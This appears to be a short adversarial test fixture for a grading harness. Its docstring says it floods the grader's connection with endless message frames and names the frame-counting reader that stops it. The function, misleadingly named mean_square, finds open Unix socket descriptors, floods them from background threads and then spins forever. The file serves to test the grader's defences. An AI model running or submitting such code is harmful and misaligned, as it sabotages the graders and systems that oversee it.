"""Writes a message without an end straight into its connection to the grader, frame after frame, so that no message ever is complete.

Must not: fill the grader's memory.
Stopped by: a reader that counts the frames of a message together and ends the connection at the limit.
"""

# %% ex1_code
import os, socket, stat, threading


def flood(number):
    frame = b"\x03" + (1 << 22).to_bytes(8, "big") + bytes(1 << 22)
    try:
        os.set_blocking(number, True)
        while True:
            view = memoryview(frame)
            while view:
                view = view[os.write(number, view) :]
    except OSError:
        pass


def mean_square(x):
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                with socket.socket(fileno=os.dup(int(name))) as copy:
                    connected = copy.family == socket.AF_UNIX and copy.getsockname()
                    copy.getpeername()
                if connected:
                    threading.Thread(target=flood, args=(int(name),), daemon=True).start()
        except OSError:
            pass
    while True:
        pass
